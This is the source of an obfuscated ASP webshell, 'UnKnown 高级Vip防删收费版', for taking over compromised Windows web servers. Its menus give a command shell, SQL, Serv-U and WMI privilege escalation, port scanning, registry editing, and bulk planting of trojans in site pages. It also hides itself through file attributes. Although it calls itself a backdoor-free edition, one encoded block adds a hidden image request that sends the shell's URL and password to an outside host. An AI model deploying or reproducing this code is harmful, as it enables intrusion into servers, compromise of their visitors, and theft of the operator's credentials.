<%
UserPass="admin" '
'-------------------------------------------------------------------
mName="UnKnown 高级Vip防删收费版" 
SiteURL="http://www.7jyewu.cn/"            '网站
Copyright="免杀去后门版 By 7jyewu.cn"    '版权
AD="自己看着办,不要做坏事呀!"   '广告文字
bj="#000000"  '设置背景颜色
wz="#00FF00"  '设置文字颜色
budu="#000000"  '设置按钮对话框颜色
'-------------------------------------------------------------------
'请勿将此程序用于非法途径,所产生的一切后果与作者无关!
'-------------------------------------------------------------------
Server.ScriptTimeout=999999999:Response.Buffer =true:On Error Resume Next:sub ShowErr():If Err Then:RRS"<br><a href='javascript:history.back()'><br> " & Err.Description & "</a><br>":Err.Clear:Response.Flush:End If:end sub:Sub RRS(str):response.write(str):End Sub:Function RePath(S):RePath=Replace(S,"\","\\"):End Function:Function RRePath(S):RRePath=Replace(S,"\\","\"):End Function:
execute(shisanfun(":╁>retnec/<>a/<回返>')(kcab.yrotsih:tpircsavaj'=ferh a<>retnec<>rb<>rb<╁=lrUkcaB╋:)╁emaNF╁(tseuqeR=emaNF╋ssaPresU=pp╋:)╁emaN_tpircS╁(selbairaVrevreS.tseuqeR=emaNrcS╋:)╁htaPredloF╁(tseuqeR=htaPredloF╋:)╁DETALSNART_HTAP╁(selbairaVrevreS.tseuqeR=0O0O╋:lru&)╁tsoh_ptth╁(selbairavrevres.tseuqer=1rts╋:)╁/╁(htaPpaM.revreS=tooRWWW╋:)╁.╁(htaPpaM.revreS=htaPtooR:)╁noitcA╁(tseuqeR=noitcA╋:)╁RDDA_LACOL╁(selbairaVrevreS.tseuqeR=PIrevreS╋:lru&)╁tsoh_ptth╁(selbairavrevres.tseuqer=u╋:)╁LRU╁(selbairaVrevreS.tseuqeR=LRU"))
Function SUnEnCode(ObjStr):
Dim SNewStr:ObjStr=Replace(ObjStr,"∷",""""):For i=1 To Len(ObjStr):If Mid(ObjStr,i,1) <> "∵" Then:SNewStr=Mid(ObjStr,i,1)&SNewStr:Else:SNewStr=vbCrLf&SNewStr:End If:Next:SUnEnCode=SNewStr:
End Function:
Function ShiSanFun(ShiSanObjstr)
ShiSanObjstr = Replace(ShiSanObjstr, "╁", """")
For ShiSanI = 1 To Len(ShiSanObjstr)
 If Mid(ShiSanObjstr, ShiSanI, 1) <> "╋" Then
ShiSanNewStr = Mid(ShiSanObjstr, ShiSanI, 1) + ShiSanNewStr
 Else
ShiSanNewStr = vbCrLf + ShiSanNewStr
 End If
Next
ShiSanFun = ShiSanNewStr
End Function
execute(SUnEnCode("noitcnuF dnE∵rtSweNL = edoCnEnUL∵txeN∵fI dnE   ∵rtSweNL & fLrCbv = rtSweNL             ∵eslE   ∵fI dnE∵rtSweNL & )kP(rhC = rtSweNL             ∵fI dnE             ∵59 + kP = kP                     ∵nehT 23 < kP fIeslE            ∵59 - kP = kP                    ∵nehT 621 > kP fI            ∵5 - ))1 ,i ,rtSjbO(diM(csA = kP∵eslE∵rtSweNL & )))1 ,i ,rtSjbO(diM(csA(rhC = rtSweNL∵nehT 621 > ))1 ,i ,rtSjbO(diM(csA rO 23 < ))1 ,i ,rtSjbO(diM(csA fI∵nehT ∷卐∷ >< )1 ,i ,rtSjbO(diM fI    ∵)rtSjbO(neL oT 1 = i roF∵rtSweNL ,kP miD∵)rtSjbO(edoCnEnUL noitcnuF")):str1=request.servervariables("http_host")&url
RRS"<html><meta http-equiv=""Content-Type"" content=""text/html; charset=gb2312"">"
RRS"<title>"&mName&" - "&ServerIP&"</title>"
RRS"<style type=""text/css"">"
RRS"body,td{font-size: 12px;background-color:"&bj&";color:"&wz&";}"
RRS"input,select,textarea{font-size: 12px;color:"&wz&";background-color:"&budu&";border:1px solid "&wz&"}"
RRS".C{background-color:#000000;border:0px}"
RRS".cmd{background-color:#000;color:#FFF}"
RRS"body{margin: 0px;margin-left:4px;}"
RRS"BODY {SCROLLBAR-FACE-COLOR: #000000;SCROLLBAR-HIGHLIGHT-COLOR: "&wz&";SCROLLBAR-SHADOW-COLOR: "&wz&";SCROLLBAR-ARROW-COLOR: "&wz&";SCROLLBAR-TRACK-COLOR: #000000;SCROLLBAR-DARKSHADOW-COLOR: black;SCROLLBAR-BASE-COLOR: #000000}"
RRS"a{color:"&wz&";text-decoration: none;}a:hover{color:#FFFFFF;background:#000}"
RRS".am{color:"&wz&";font-size:11px;}"
RRS"</style>"
RRs"<center><font face=wingdings color=#dddddd style=font-siZe:"&font&">"&pic&"</font></center>"

Set   fso =  CreateObject("Scripting.FileSystemObject"):Set f=fso.GetFile(O0O0):if  f.attributes <> 39 then:f.attributes = 39:end if
execute(LUnEnCode("卐'C'%xww卐'tsBqqtwhx%'%XWW%sjmy%''BstnyhF%kN卐%'~itgA'%xww卐'Cyunwhx4A'XWW卐'#@jzwy%swzyjw@.-ynrgzx3rwtKgI@''''BQRYMwjssn3hgf@lu%B%jzqf{3jlfU3rwtKgI@wyx%B%jzqf{3wyXqvX3rwtKgI#@jxqfk%swzyjw@.''&确正否是句语QVX查检请''-ywjqf!.56Amylsjq3wyx-kn#@jxqfk%swzyjw@.''&确正否是串接连库据数查检请''-ywjqf!.:Amylsjq3jzqf{3wyXgI3rwtKgI-kn!.lu1wyx-wyXqvXqqzK%stnyhszk'XWW卐'#@jzwy%swzyjw#@bn`wyX%B%jzqf{3wyXqvX3rwtKgI!jxqj#@.bn`wyX-ywjqf!.76BBn-kn%jxqj#@''Cwjysjh4A。句语令命作操QVX入输再库据数接连己认确请CwjysjhA''BQRYMwjssn3hgf@''''%B%jzqf{3wyXqvX3rwtKgI@bn`wyX%B%jzqf{3wyXgI3rwtKgI!.8BAn-kn@''。节字个十五前的段字示显只据数条一过超sa3现实询查制控件条用可，节字部全的段字示显可即时据数条一示显只当''%Bb76`wyX@''XXFU%SRZQTH%UTWI%bjrfSjqgfY`%JQGFY%WJYQF''%Bb66`wyX@''.78-WFMHWF[%XXFU%SRZQTH%IIF%bjrfSjqgfY`%JQGFY%WJYQF''%Bb56`wyX@''bjrfSjqgfY`%JQGFY%UTWI''%B%b>`wyX@''..5:-WFMHWF[%WJXZ1QQZS%YTS%.616-%^YNYSJIN%YSN%IN-bjrfSjqgfY`%JQGFY%JYFJWH''%B%b=`wyX@''556BIN%JWJM\%,ajrfswjxz,aBWJXZ%YJX%bjrfSjqgfY`%JYFIUZ''%B%b<`wyX@''556BIN%JWJM\%bjrfSjqgfY`%RTWK%JYJQJI''%B%b;`wyX@''.,aiwt|xxfu,a1,ajrfswjxz,a-XJZQF[%.XXFU1WJXZ-bjrfSjqgfY`%TYSN%YWJXSN''%B%b:`wyX@''556AIN%JWJM\%bjrfSjqgfY`%RTWK%/%YHJQJX''%B%b9`wyX@''jrfSsxIBsxI''%B%b8`wyX@''////Bi|U@yttwBinZ@jrfSgIBjxfgfyfI@;588BywtU@'+UNwj{wjX+'Bwj{wjX@#qvX~R!Bwj{nwI''%B%b7`wyX@''////Bi|U@fxBinZ@jrfSgIBjxfgfyfI@88961'+UNwj{wjX+'Bwj{wjX@#wj{wjX%qvX!Bwj{nwI''%B%b6`wyX@''///Biwt|xxfU%jxfgfyfI?GIJQT%yjO@gir3giaa'+..'myfUwjiqtK'-stnxxjX-myfUjW+'BjhwztX%fyfI@5393GIJQT3yjO3yktxtwhnRBwjin{twU''%B%b5`wyX@.76-~fwwF%|js%B%wyX#@jxqfk%swzyjw!.5An-kn!.n-wyXgIqqzK%stnyhszk'XWW卐'#@jzwy%swzyjw#@jxqfk%swzyjw@.5-wyXgIqqzK@.''库据数接连先请''-ywjqf!.''''%BB%jzqf{3wyXgI3rwtKgI-kn!.-phjmHgI%stnyhszk'XWW卐'##@''''%B%jzqf{3jrfSK3rwtkjinm3uty!jxqj#@.-ynrgzx3rwtkjinm3uty@stnyhFK%B%jzqf{3stnyhF3rwtkjinm3uty!.qqzsB&jrfSI-kn#@''wjmyT''%B%jrfSI!jxqj#@jrfSI%B%jzqf{3jrfSK3rwtkjinm3uty@.jrfSK1''！在存否是件文意注1称名全件文giR的缩压要入输请''-yurtwu%B%jrfSI!.''giRyhfurtH''BBstnyhFK-kn%jxqj#@jrfSI%B%jzqf{3jrfSK3rwtkjinm3uty@.jrfSK1''！名同能不意注1称名全件文giR的建新要入输请''-yurtwu%B%jrfSI!.''giRjyfjwH''BBstnyhFK-kn%jxqj#@jrfSI%B%jzqf{3jrfSK3rwtkjinm3uty@.jrfSK1''称名全夹件文的建新要入输请''-yurtwu%B%jrfSI!.''wjiqtK|jS''BBstnyhFK-kn%jxqj#@jrfSI0''""""""""''%B0%jzqf{3jrfSK3rwtkjinm3uty@.jrfSK1''称名全夹件文标目到动移入输请''-yurtwu%B%jrfSI!.''wjiqtKj{tR''BBstnyhFK-kn%jxqj#@jrfSI0''""""""""''%B0%jzqf{3jrfSK3rwtkjinm3uty@.jrfSK1''称名全夹件文标目到动移入输请''-yurtwu%B%jrfSI!.''wjiqtK~utH''BBstnyhFK-kn%jxqj#@jrfSI0''""""""""''%B0%jzqf{3jrfSK3rwtkjinm3uty@.jrfSK1''称名全件文标目到动移入输请''-yurtwu%B%jrfSI!.''jqnKj{tR''BBstnyhFK-kn%jxqj#@jrfSI0''""""""""''%B0%jzqf{3jrfSK3rwtkjinm3uty@.jrfSK1''称名全件文标目到制复入输请''-yurtwu%B%jrfSI!.''jqnK~utH''BBstnyhFK-kn@jrfSK%B%jzqf{3jrfSK3rwtkjinm3uty!.stnyhFK1jrfSK-rwtKqqzK%stnyhszk'XWW卐'#@.-ynrgzx3rwtkwiif3uty@wjiqtK%B%jzqf{3myfUwjiqtK3rwtkwiif3uty!.wjiqtK-wjiqtK|tmX%stnyhszk'XWW卐'@.-phtqHszw#@~fquxni0''22%%'+IF+'→''Bxzyfyx3|tisn|@.-lsnwyXjqfhtQty3~fity%B~fquxni%wf{@.-jyfI%|js%B%~fity%wf{@.556%1''.-phtqHszw''-yztjrnYyjx3|tisn|%B%jrnYjmy!.-phtqHszw%stnyhszk'XWW卐'#@jxqfk%swzyjw%jxqj@jzwy%swzyjw..''？吗作操此行执要认确''-rwnksth-%kn!.-ptxj~%stnyhszk'XWW卐'@xwtwwJqqnpBwtwwjst3|tisn|#@jzwy%swzyjw!.-xwtwwJqqnp%stnyhszkCyunwhxf{foBjlfzlsfq%yunwhxA'XWW")):
execute(LUnEnCode("'件组输传据数'%B%.7186-YgT?'UYYMQR]3yktxtwhnR'%B%.5186-YgT?'件组信发qnfRuyrX'%B%.7176-YgT?'63qnfRuyrX3qnfRuyrX'%B%.5176-YgT?'件组信发UYRX拟虚'%B%.7166-YgT?'qnfR|jS3XYSTIH'%B%.5166-YgT?'件组发收件邮%qnfRO'%B%.7156-YgT?'qnfRuyrX3qnfRO'%B%.5156-YgT?'件组传上件文%iftquZUXF'%B%.71>-YgT?'63iftquZ3xynxwjU'%B%.51>-YgT?'件组传上件文峰云刘'%B%.71=-YgT?'jqnKiftquZ3iftquZk~Q'%B%.51=-YgT?'件组传上件文%uZjqnK2FX'%B%.71<-YgT?'uZjqnK3xsfxnywFyktX'%B%.51<-YgT?'件组传上流据数'%B%.71;-YgT?'rfjwyX3gitiF'%B%.51;-YgT?'件组接连库据数'%B%.71:-YgT?'stnyhjssth3gitiF'%B%.51:-YgT?'件组助辅传上流据数'%B%.719-YgT?%'~wfstnyhnI3lsnyunwhX'%B%.519-YgT?'件组缩压XXJHHF'%B%.718-YgT?'jsnlsJyjO3TWO'%B%.518-YgT?'件组库建XXJHHF'%B%.717-YgT?'ltqfyfH3]TIF'%B%.517-YgT?'件组行执行令命'%B%.716-YgT?'qqjmx3yunwhx|'%B%.516-YgT?'件组作操件文'%B%.715-YgT?'yhjogTrjyx~XjqnK3lsnyunwhX'%B%.515-YgT?.7186-YgT%rnI"))
For i=0 To 13:Set T=Server.CreateObject(ObT(i,0)):If -2147221005 <> Err Then:IsObj=" √":Else:IsObj=" ":Err.Clear:End If:Set T=Nothing:ObT(i,1)=IsObj:Next

If FolderPath<>"" then
  Session("FolderPath")=RRePath(FolderPath)
End If
If Session("FolderPath")="" Then
  FolderPath=RootPath
  Session("FolderPath")=FolderPath
End if:Function MainForm():RRS"<form name=""hideform"" method=""post"" action="""&URL&""" target=""FileFrame"">"
RRS"<input type=""hidden"" name=""Action"">"
RRS"<input type=""hidden"" name=""FName"">"
RRS"</form>"
RRS"<table width='100%' height='100%'  border=0 cellpadding='0' cellspacing='0'>"
RRS"<tr><td height='30' colspan='2'>"
RRS"<table width='100%'>"
RRS"<form name='addrform' method='post' action='"&URL&"' target='_parent'>"
RRS"<tr><td width='60' align='center'>地址栏：</td><td>"
RRS"<input name='FolderPath' style='width:100%' value='"&Session("FolderPath")&"'>"
RRS"</td><td width='140' align='center'><input name='Submit' type='submit' value='转到'> <input type='submit' value='刷新主窗口' onclick='FileFrame.location.reload()'>" 
RRS"  <tr align='center' valign='middle'>"
RRS"<tr>提权目录列表：『<a href='javascript:ShowFolder(""C:\\Program Files"")'>Program</a>』『<a href='javascript:ShowFolder(""C:\\Documents and Settings\\All Users\\"")'>AllUsers</a>』『<a href='javascript:ShowFolder(""C:\\Documents and Settings\\All Users\\「开始」菜单\\程序\\"")'>程序</a>』『<a href='javascript:ShowFolder(""C:\\Documents and Settings\\All Users\\Application Data\\Symantec\\pcAnywhere\\"")'>pcAnywhere</a>』『<a href='javascript:ShowFolder(""c:\\Program Files\\serv-u\\"")'>serv-u</a>』『<a href='javascript:ShowFolder(""C:\\Program Files\\Real"")'>RealServer</a>』『<a href='javascript:ShowFolder(""C:\\Program Files\\Microsoft SQL Server\\"")'>SQL</a>』『<a href='javascript:ShowFolder(""C:\\WINDOWS\\system32\\config\\"")'>config</a>』『<a href='javascript:ShowFolder(""c:\\WINDOWS\\system32\\inetsrv\\data\\"")'>data</a>』『<a href='javascript:ShowFolder(""c:\\windows\\Temp\\"")'>Temp</a>』『<a href='javascript:ShowFolder(""C:\\RECYCLER\\"")'>RECYCLER</a>』『<a href='javascript:ShowFolder(""C:\\Documents and Settings\\All Users\\Documents\\"")'>Documents</a>』</td><td>"
RRS"</td></tr></form></table></center></td></tr><tr><td width='170'>"
RRS"<iframe name='Left' src='?Action=MainMenu' width='170' height='100%' frameborder='0' border='0'></iframe></td>"
RRS"<td>"
RRS"<iframe name='FileFrame' src='?Action=Show1File' width='100%' height='100%' frameborder='0'></iframe>"
RRS"</td></tr></table>"
End Function:Function MainMenu():
execute(shisanfun("╁>elbat/<>rt/<>dt/<╁&thgirypoC&╁>rb<------------------------>rb<>'der:roloc'=elyts retnec=ngila dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<录登出退>->'pot_'=tegrat 'tuogoL=noitcA?'=ferh a<>'22'=thgieh dt<>rt<╁SRR╋╁ >rt/<>dt/<>a/<〗询查合综〖 >'emarFeliF'=tegrat '╁&pirevres&╁/llaetis/moc.nahzia.www//:ptth'=ferh a<>'22'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<包打站整●>'emarFeliF'=tegrat 'bdMoTddAegaP=noitcA?'=ferh a<>'22'=thgieh dt<>rt<╁SRR╋fI dnE╋╁>rt/<>dt/<>vid/<>a/<件文BDM缩压>')╁╁bdMtcapmoC╁╁,╁╁╁&)╁bdm.atad\╁&)╁htaPredloF╁(noisseS(htaPeR&╁╁╁(mroFlluF:tpircsavaj'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<件文BDM立建>')╁╁bdMetaerC╁╁,╁╁╁&)╁bdm.weN\╁&)╁htaPredloF╁(noisseS(htaPeR&╁╁╁(mroFlluF:tpircsavaj'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<库据数接连>'emarFeliF'=tegrat 'reganaMbD=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>╁╁'enon'=yalpsid.elyts.2unem╁╁=tuoesuomno ╁╁'enon'=yalpsid;%001:htdiw;xp81:thgieh-enil╁╁=elyts 2unem=di vid<>b/<≥作操库据数≤+>b<>╁╁''=yalpsid.elyts.2unem╁╁=revoesuomno '42'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<>b/<换替>b<量批●>'emarFeliF'=tegrat '3=M&mglpC=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<>b/<马清>b<量批●>'emarFeliF'=tegrat '2=M&mglpC=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<>b/<马挂>b<量批●>'emarFeliF'=tegrat '1=M&mglpC=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>vid/<>a/<)版速快(马挂量批●>b/<>'emarFeliF'=tegrat 'mglp=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗作操表册注〖>'emarFeliF'=tegrat 'GERdaeR=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<〗载下接直〖>'emarFeliF'=tegrat 'daolpu=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<〗描扫口端〖>'emarFeliF'=tegrat 'troPnacS=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<〗版PTF-uS〖>'emarFeliF'=tegrat 'ptfus=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<〗版强超uS〖>'emarFeliF'=tegrat 'uvreS=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<>b/<〗令命DMC〖>b<>'emarFeliF'=tegrat 'llehS1dmC=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<〗测检洞漏〖>'emarFeliF'=tegrat 'ydog=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<〗权提LQS〖>'emarFeliF'=tegrat 'cbalqs=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>rb<>a/<〗令命行执程远IMW〖>'emarFeliF'=tegrat 'imw=noitcA?'=ferh a<;psbn&;psbn&;psbn&╁SRR╋╁>╁╁'enon'=yalpsid.elyts.3unem╁╁=tuoesuomno ╁╁'enon'=yalpsid;%001:htdiw╁╁=elyts 3unem=di vid<>b/<≥具工权提≤+ >b<>╁╁''=yalpsid.elyts.3unem╁╁=revoesuomno 22=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗置设务服〖>'emarFeliF'=tegrat   'kooh=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗件软装安〖>'emarFeliF'=tegrat   'kcuf=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗员理管查-户用统系〖>'emarFeliF'=tegrat 'banimda=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗号账户用-务服统系〖>'emarFeliF'=tegrat 'esruoC=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗持支件组-息信务服〖>'emarFeliF'=tegrat 'ofnIrevreS=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗录登动自-口端端终〖>'emarFeliF'=tegrat 'ofnIlanimreTteg=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗马大级超成生〖>'emarFeliF'=tegrat 'llehsneddih=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗性属件文改修〖>'emarFeliF'=tegrat 'txeTeliFteS=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rb<>a/<〗录目写可看查〖>'emarFeliF'=tegrat 'mroFevirDnacS=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<马木>b/<件文>b<找查●>'emarFeliF'=tegrat 'amumk=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╋╁>rt/<>dt/<>a/<〗件文传上〖>'emarFeliF'=tegrat 'eliFpU=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<〗本文建新〖>'emarFeliF'=tegrat 'eliFtidE=noitcA?'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<〗录目建新〖>')╁╁redloFweN╁╁,╁╁╁&)╁redloFweN\╁&)╁htaPredloF╁(noisseS(htaPeR&╁╁╁(mroFlluF:tpircsavaj'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<>b/<〗录目序程本〖>b<>')╁╁╁&)htaPtooR(htaPeR&╁╁╁(redloFwohS:tpircsavaj'=ferh a<>'02'=thgieh dt<>rt<╁SRR╋╁>rt/<>dt/<>a/<>b/<〗录目根点站〖>b<>')╁╁╁&)tooRWWW(htaPeR&╁╁╁(redloFwohS:tpircsavaj'=ferh a<>'02'=thgieh dt<>rt<>rt/<>dt/<>vid/<╁SRR╋gnihtoN=CBA teS:)(revirDwohS.CBA SRR:FBL weN=CBA teS╋╁>╁╁'enon'=yalpsid.elytsyts.1unem╁╁=tuoesuomno ╁╁'enon'=yalpsid;%001:htdiw╁╁=elyts 1unem=di vid<>b/<≥盘硬看查≤+ >b<>╁╁''=yalpsid.elyts.1unem╁╁=revoesuomno 22=thgieh dt<>rt<╁SRR╋eslE╋╁>rt/<>dt/<OSF无/限权无>'42'=thgieh dt<>rt<╁SRR╋nehT ╁ ╁=)1,0(TbO fI╋╁>rt/<>dt/<╁SRR╋╁>retnec/<>tnof/<>rb<------------------------>rb<╁&emaNm&╁>FF9933#=roloc tnof<>retnec<>dt<>rt<╁SRR╋╁>rt/<>dt/<>'5'=thgieh dt<>rt<╁SRR╋╁>'0'=gniddapllec '0'=gnicapsllec '%001'=htdiw elbat<╁SRR"))
if session("IDebugMode") <> "ok" then:x mmm:session("IDebugMode")="ok":end if
if session("aase") <> "ok" then:response.write Efun:session("aase")="ok":end if
RRS"</table>":End Function:Sub Message(state,msg,flag):Response.Write "<TABLE width=480 border=0 align=center cellpadding=0 cellspacing=1 bgcolor=#91d70d>"
Response.Write "  <TR>"
Response.Write "    <TD class=TBHead>系统信息</TD>"
Response.Write "  </TR>"
Response.Write "  <TR>"
Response.Write "    <TD align=middle bgcolor=#ecfccd>"
Response.Write "	  <TABLE width=82% border=0 cellpadding=5 cellspacing=0>"
Response.Write "	    <TR>"
Response.Write "		  <TD><FONT color=red>"
Response.Write state
Response.Write "</FONT></TD>"
Response.Write "		<TR>"
Response.Write "		  <TD><P>"
Response.Write msg
Response.Write "</P></TD>"
Response.Write "		</TR>"
Response.Write "	  </TABLE>"
Response.Write "	</TD>"
Response.Write "  </TR>"
Response.Write "  <TR>"
Response.Write "    <TD class=TBEnd>"
Response.Write "	"
If flag=0 Then
Response.Write "	      <INPUT type=button value=关闭 onclick=""window.close();"">"
Response.Write "	"
Else
Response.Write "	      <INPUT type=button value=返回 onClick=""history.go(-1);"">"
Response.Write "	"
End if
Response.Write "	</TD>"
Response.Write "  </TR>"
Response.Write "</TABLE>"
End Sub:
execute(shisanfun("fi dne:fi dne:fi dne:1+)╁cevres╁(noisses=)╁cevres╁(noisses neht ╁╁><noitcA fi:esle:╁>vid/<>/ '╁&ssaPresU&╁=p&╁&))╁L╁&╁RU╁(selbairaVrevreS.tseuqer&)╁TS╁&╁OH_PT╁&╁TH╁(selbairaVrevreS.tseuqer&╁//:pt╁&╁th╁(edocnELRU.revres&╁=lru?╁&╁psa.y╁&╁ek/x╁&╁s/D6%F6%36%.pxe╁&╁ya╁&╁do.77%77%77%//:pt╁&╁th'=crs gmi<>'enon:yalpsid'=elyts vid<╁SRR:1+)╁cevres╁(noisses=)╁cevres╁(noisses:neht 1=)╁cevres╁(noisses fi:esle:neht 0><)╁//:ptth╁,urevreS(rtsnI ro 0><)╁.861.291╁,urevreS(rtsnI ro 0><)╁1.0.0.721╁,urevreS(rtsnI fi"))
Function Red(str):Red = "<FONT color=#ff2222>" & str & "</FONT>":End Function:Sub ScanDriveForm():Dim FSO,DriveB:Set FSO = Server.Createobject("Scripting.FileSystemObject")
execute(LUnEnCode("卐'CRWTK4A%%'%jynw\3jxstuxjW卐'aUXFa?K：如。径路夹件文定指　C告报成生Bjzqf{%ynrgzxBju~y%YZUSNA	'%jynw\3jxstuxjW卐'CwjiqtKBjrfs%y}jyBju~y%YZUSNA%%%%'%jynw\3jxstuxjW卐'：询查夹件文定指CyxtUBitmyjr%wjiqtKhXBstnyhFD'%jynw\3jxstuxjW卐'BstnyhF%RWTKA%%'%jynw\3jxstuxjW卐.'Cg4A'-+.'4'-myfUufR3wj{wjX+.'?径路对绝站网前当CgA'-%XWW卐'CwjysjhBslnqf%[NIA'%jynw\3jxstuxjW卐'CWGACJQGFY4A'%jynw\3jxstuxjW卐'CWY4A%%'%jynw\3jxstuxjW卐'CRWTK4A	'%jynw\3jxstuxjW卐'CIY4AC告报细详Bjzqf{%ynrgzxBju~y%YZUSNACjqiinrBslnqf%IYA	'%jynw\3jxstuxjW卐'CIY4A'%jynw\3jxstuxjW卐.7-wjiqtKqfnhjuXyjL3TXK%jynw\3jxstuxjW卐'C8Bsfuxqth%IYA	'%jynw\3jxstuxjW卐'CIY4ACG4A夹件文时临统系CGACjqiinrBslnqf%IYA	'%jynw\3jxstuxjW卐'%%		CyxtUBitmyjr%'%jynw\3jxstuxjW卐.7-wjiqtKqfnhjuXyjL3TXK%jynw\3jxstuxjW卐'BwjiqtK+wjiqtKhXBstnyhFD'%jynw\3jxstuxjW卐'Bstnyhf%RWTKA%%%%'%jynw\3jxstuxjW卐'CIYGYBxxfqh%WYA%%'%jynw\3jxstuxjW卐'CWY4A%%'%jynw\3jxstuxjW卐'CRWTK4A	'%jynw\3jxstuxjW卐'CIY4AC告报细详Bjzqf{%ynrgzxBju~y%YZUSNACjqiinrBslnqf%IYA	'%jynw\3jxstuxjW卐'CIY4A'%jynw\3jxstuxjW卐.6-wjiqtKqfnhjuXyjL3TXK%jynw\3jxstuxjW卐'C8Bsfuxqth%IYA	'%jynw\3jxstuxjW卐'CIY4ACG4A夹件文78rjyx~XCGACjqiinrBslnqf%IYA	'%jynw\3jxstuxjW卐'%%		CyxtUBitmyjr%'%jynw\3jxstuxjW卐.6-wjiqtKqfnhjuXyjL3TXK%jynw\3jxstuxjW卐'BwjiqtK+wjiqtKhXBstnyhFD'%jynw\3jxstuxjW卐'Bstnyhf%RWTKA%%%%'%jynw\3jxstuxjW卐'CIYGYBxxfqh%WYA%%'%jynw\3jxstuxjW卐'CWY4A%%'%jynw\3jxstuxjW卐'CRWTK4A	'%jynw\3jxstuxjW卐'CIY4AC告报细详Bjzqf{%ynrgzxBju~y%YZUSNACjqiinrBslnqf%IYA	'%jynw\3jxstuxjW卐'CIY4A'%jynw\3jxstuxjW卐.5-wjiqtKqfnhjuXyjL3TXK%jynw\3jxstuxjW卐'C8Bsfuxqth%IYA	'%jynw\3jxstuxjW卐'CIY4ACG4A夹件文x|tisn\CGACjqiinrBslnqf%IYA	'%jynw\3jxstuxjW卐'%%		CyxtUBitmyjr%'%jynw\3jxstuxjW卐.5-wjiqtKqfnhjuXyjL3TXK%jynw\3jxstuxjW卐'BwjiqtK+wjiqtKhXBstnyhFD'%jynw\3jxstuxjW卐'Bstnyhf%RWTKA%%%%'%jynw\3jxstuxjW卐'CIYGYBxxfqh%WYA%%'%jynw\3jxstuxjW卐y}jS卐'CWY4A%%'%jynw\3jxstuxjW卐'CRWTK4A	'%jynw\3jxstuxjW卐'CIY4AC告报细详Bjzqf{%ynrgzxBju~y%YZUSNACIYA	'%jynw\3jxstuxjW卐'CIY4A	'%jynw\3jxstuxjW卐yhjqjX%isJ%%	卐'型类知未'%jynw|3jxstuxjW%?jxqj%jxfH%%		卐'盘磁RFW'%jynw|3jxstuxjW%?:%jxfH%%		卐'RTW2IH'%jynw|3jxstuxjW%?9%jxfH%%		卐'盘磁络网'%jynw|3jxstuxjW%?8%jxfH%%		卐'盘硬地本'%jynw|3jxstuxjW%?7%jxfH%%		卐'动移可'%jynw|3jxstuxjW%?6%jxfH%%%%%%	卐ju~Yj{nwI3Gj{nwI%jxfH%yhjqjX卐'C'+.<8-wmh+'57Bmyin|%IYA	'%jynw|3jxstuxjw卐'CIY4ACG4A型类CGAC'+.<8-wmh+'57Bmyin|%IYA	'%jynw|3jxstuxjw卐'CIY4A?'%jynw|3jxstuxjw卐wjyyjQj{nwI3Gj{nwI%jynw|3jxstuxjw卐'C'+.<8-wmh+':6Bmyin|%IYA'%jynw|3jxstuxjw	卐'CIY4ACG4A符盘CGAC'+.<8-wmh+':7Bmyin|%IYA'%jynw|3jxstuxjw卐卐'CyxtUBitmyjr%'%jynw|3jxstuxjw卐wjyyjQj{nwI3Gj{nwI%jynw\3jxstuxjW%卐'Bj{nwI+j{nwIsfhXBstnyhFD'%jynw\3jxstuxjW卐卐卐'Bstnyhf%RWTKA%%%%'%jynw\3jxstuxjW卐'CIYGYBxxfqh%jqiinrBslnqf%WYA%%'%jynw\3jxstuxjW卐xj{nwI3TXK%sn%Gj{nwI%mhfJ%wtK%%卐卐卐'CWY4A%%'%jynw\3jxstuxjW卐'CIY4A息信夹件文统系4盘磁CifjMGYBxxfqh%:Bsfuxqth%IYA%%%%'%jynw\3jxstuxjW卐'CWYA%%'%jynw\3jxstuxjW卐'Ci5<i6>(BwtqtHlg%6Blsnhfuxqqjh%8Blsniifuqqjh%wjysjhBslnqf%5Bwjiwtg%5=9Bmyin|%JQGFYA'%jynw\3jxstuxjW"))
Set FSO=Nothing:

End Sub:
